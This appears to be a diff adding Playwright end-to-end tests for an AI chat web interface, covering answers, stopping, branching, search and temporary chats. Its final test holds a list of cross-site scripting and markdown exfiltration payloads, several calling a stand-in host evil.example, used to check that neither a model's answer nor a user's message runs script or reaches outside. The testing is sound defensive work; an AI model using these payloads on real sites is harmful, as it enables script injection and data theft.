@@ -1,0 +1,224 @@
+import type { Page } from "@playwright/test";
+import { axe, expect, test } from "./base";
+
+const field = (page: Page) => page.getByLabel("Your message", { exact: true });
+const answers = (page: Page) => page.getByRole("article", { name: "Answer" });
+
+async function ask(page: Page, text: string): Promise<void> {
+  await field(page).fill(text);
+  await field(page).press("Enter");
+}
+
+async function asked(page: Page, text: string, answer: string | RegExp): Promise<void> {
+  await ask(page, text);
+  await expect(answers(page).last()).toContainText(answer);
+  await expect(page.getByTestId("announcements")).toContainText("The answer is complete.");
+}
+
+test("a question is answered, kept, listed, and there after a reload", async ({ page, engine }) => {
+  await engine({ answers: ["Use **one pool** for all.\n\n```python\npool = Pool()\n```"] });
+  await page.goto("/chat");
+  expect(await axe(page)).toEqual([]);
+  await asked(page, "How do I share connections?", "Use one pool for all.");
+  await expect(page).toHaveURL(/\/chat\/[0-9a-f-]{36}$/);
+  await expect(field(page)).toBeFocused();
+  await expect(
+    page.getByRole("region", { name: "Today" }).getByRole("link", { name: /share connections/ }),
+  ).toBeVisible();
+  expect(await axe(page)).toEqual([]);
+  await page.reload();
+
+  await expect(answers(page)).toContainText("Use one pool for all.");
+  await expect(page.getByRole("article", { name: "You" })).toContainText("How do I share connections?");
+});
+
+test("Esc stops the answer at once, and what is written stays", async ({ page, engine }) => {
+  await engine({ answers: ["First word and many more"], holds: true });
+  await page.goto("/chat");
+  await ask(page, "Tell me everything.");
+  await expect(answers(page)).toContainText("First");
+  expect(await axe(page)).toEqual([]);
+  await page.keyboard.press("Escape");
+
+  await expect(page.getByText("Stopped", { exact: true })).toBeVisible();
+  await expect(answers(page)).toContainText("First");
+  await expect.poll(async () => (await engine({})).running).toBe(0);
+});
+
+test("an answer is read on after a reload in its middle", async ({ page, engine }) => {
+  await engine({ answers: ["Alpha beta gamma delta"], holds: true });
+  await page.goto("/chat");
+  await ask(page, "Letters, please.");
+  await expect(answers(page)).toContainText("Alpha");
+  await page.reload();
+  await expect(page.getByRole("article", { name: "You" })).toContainText("Letters, please.");
+  await expect(answers(page)).toContainText("Alpha");
+  await engine({ go_on: true });
+
+  await expect(answers(page)).toContainText("Alpha beta gamma delta");
+  await expect(answers(page)).toHaveCount(1);
+});
+
+test("answering again and editing make branches that can be walked, and are there after a reload", async ({
+  page,
+  engine,
+}) => {
+  await engine({ answers: ["Answer one.", "Answer two.", "Answer three."] });
+  await page.goto("/chat");
+  await asked(page, "First wording", "Answer one.");
+  await page.getByRole("button", { name: "Answer again" }).click();
+  await expect(answers(page)).toContainText("Answer two.");
+  await page.getByRole("button", { name: "Previous version" }).click();
+  await expect(answers(page)).toContainText("Answer one.");
+  await page.reload();
+  await expect(answers(page)).toContainText("Answer one.");
+  await page.getByRole("article", { name: "You" }).hover();
+  await page.getByRole("button", { name: "Edit" }).click();
+  await page.getByLabel("Edit your message").fill("Second wording");
+  await page.getByRole("button", { name: "Save and ask" }).click();
+  await expect(answers(page)).toContainText("Answer three.");
+
+  await expect(page.getByRole("article", { name: "You" })).toContainText("Second wording");
+  await expect(
+    page.getByRole("article", { name: "You" }).getByRole("group", { name: "Version 2 of 2" }),
+  ).toBeAttached();
+});
+
+test("a fork goes on in a chat of its own", async ({ page, engine }) => {
+  await engine({ answers: ["The origin."] });
+  await page.goto("/chat");
+  await asked(page, "Where from?", "The origin.");
+  const before = page.url();
+  await page.getByRole("button", { name: "Continue in a new chat from here" }).click();
+
+  await expect(page).not.toHaveURL(before);
+  await expect(answers(page)).toContainText("The origin.");
+});
+
+test("what is said while an answer is written waits its turn", async ({ page, engine }) => {
+  await engine({ answers: ["One ready", "Two ready"], holds: true });
+  await page.goto("/chat");
+  await ask(page, "Number one");
+  await expect(answers(page)).toContainText("One");
+  await ask(page, "Number two");
+  await expect(page.getByRole("list", { name: "Next up" })).toContainText("Number two");
+  await engine({ go_on: true });
+
+  await expect(answers(page)).toHaveCount(2);
+  await expect(answers(page).last()).toContainText("Two ready");
+  await expect(page.getByRole("list", { name: "Next up" })).toBeHidden();
+});
+
+test("what failed says why, with its number, and can be asked again", async ({ page, engine }) => {
+  await engine({ refuses: 500 });
+  await page.goto("/chat");
+  await ask(page, "Will it work?");
+  const alert = page.getByRole("alert");
+  await expect(alert).toContainText(/model_(failed|unavailable)/);
+  expect(await axe(page)).toEqual([]);
+  await engine({ refuses: null, answers: ["Now it does."] });
+  await alert.getByRole("button", { name: "Try again" }).click();
+
+  await expect(answers(page)).toContainText("Now it does.");
+  await expect(page.getByRole("article", { name: "You" })).toHaveCount(1);
+});
+
+test("a temporary chat says so, and nothing of it is kept", async ({ page, engine }) => {
+  await engine({ answers: ["Between us."] });
+  await page.goto("/chat");
+  await page.getByRole("button", { name: "Temporary chat" }).click();
+  await expect(page.getByRole("note")).toContainText("Nothing of this chat is kept.");
+  await asked(page, "A secret question", "Between us.");
+  expect(page.url()).toMatch(/\/chat$/);
+  await page.reload();
+
+  await expect(page.getByText("A secret question")).toBeHidden();
+});
+
+test("chats are found by what was said in them, renamed, pinned, deleted and brought back", async ({
+  page,
+  engine,
+}) => {
+  await engine({ answers: ["The capybara is a rodent."] });
+  await page.goto("/chat");
+  await asked(page, "Animals?", "capybara");
+  await page.getByLabel("Search chats").fill("capybara");
+  const found = page.getByRole("link", { name: /Animals\?/ });
+  await expect(found).toContainText("capybara");
+  await page.getByRole("button", { name: "Options for “Animals?”" }).click();
+  await page.getByRole("menuitem", { name: "Rename" }).click();
+  await page.getByLabel("Title").fill("Rodents");
+  await page.getByRole("button", { name: "Save" }).click();
+  await page.getByRole("button", { name: "Clear the search" }).click();
+  await page.getByRole("button", { name: "Options for “Rodents”" }).click();
+  await page.getByRole("menuitem", { name: "Pin", exact: true }).click();
+  await expect(
+    page.getByRole("region", { name: "Pinned" }).getByRole("link", { name: "Rodents" }),
+  ).toBeVisible();
+  await page.getByRole("button", { name: "Options for “Rodents”" }).click();
+  await page.getByRole("menuitem", { name: "Delete" }).click();
+  await expect(page.getByRole("link", { name: "Rodents" })).toBeHidden();
+  await page.getByRole("button", { name: "Undo" }).click();
+
+  await expect(page.getByRole("link", { name: "Rodents" })).toBeVisible();
+});
+
+test("instructions and drafts are kept; keys are listed; long pastes are files", async ({ page }) => {
+  await page.goto("/chat");
+  await page.keyboard.press("Control+/");
+  await expect(page.getByRole("dialog", { name: "Keys" })).toBeVisible();
+  expect(await axe(page)).toEqual([]);
+  await page.keyboard.press("Escape");
+  await field(page).fill("Half a thou");
+  await page.reload();
+  await expect(field(page)).toHaveValue("Half a thou");
+  await page.evaluate(() => navigator.clipboard.writeText("line\n".repeat(900))).catch(() => undefined);
+  await field(page).evaluate((node) => {
+    const data = new DataTransfer();
+    data.setData("text/plain", "line\n".repeat(900));
+    node.dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
+  });
+
+  await expect(page.getByText("Pasted text, 4,500 characters")).toBeVisible();
+  await expect(field(page)).toHaveValue("Half a thou");
+});
+
+const CORPUS = [
+  "![](https://evil.example/?q=SECRET)",
+  "![x][ref]\n\n[ref]: https://evil.example/?q=SECRET",
+  '<img src="https://evil.example/x" onerror="window.__pwned=1">',
+  "<script>window.__pwned=1</script>",
+  '<svg onload="window.__pwned=1"></svg>',
+  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
+  "[click](javascript:window.__pwned=1)",
+  "[click](data:text/html,<script>window.__pwned=1</script>)",
+  "<https://evil.example/?q=SECRET>",
+  '<a href="https://evil.example" style="position:fixed;inset:0">x</a>',
+  "<style>@import url(https://evil.example/x.css)</style>",
+  "```mermaid\ngraph TD; A[<img src=x onerror=window.__pwned=1>]\n```",
+  '<form action="https://evil.example"><input autofocus onfocus="window.__pwned=1"></form>',
+  '<details open ontoggle="window.__pwned=1">x</details>',
+  '[1]: javascript:window.__pwned=1 "x"\n\n[1]',
+];
+
+test("nothing that a model or a person writes runs or asks elsewhere (S-20, S-24)", async ({
+  page,
+  engine,
+  strays,
+}) => {
+  await engine({ answers: [CORPUS.join("\n\n")] });
+  await page.goto("/chat");
+  await asked(page, CORPUS.join("\n"), "mermaid");
+  const hrefs = await page
+    .locator("main a")
+    .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
+  await page.reload();
+  await expect(answers(page)).toContainText("mermaid");
+
+  expect(hrefs.filter((href) => href && !/^(https?:|mailto:|\/)/.test(href))).toEqual([]);
+  expect(
+    await page.locator("main article img, main iframe, main script, main form form, main style").count(),
+  ).toBe(0);
+  expect(await page.evaluate(() => "__pwned" in window)).toBe(false);
+  expect(strays).toEqual([]);
+});
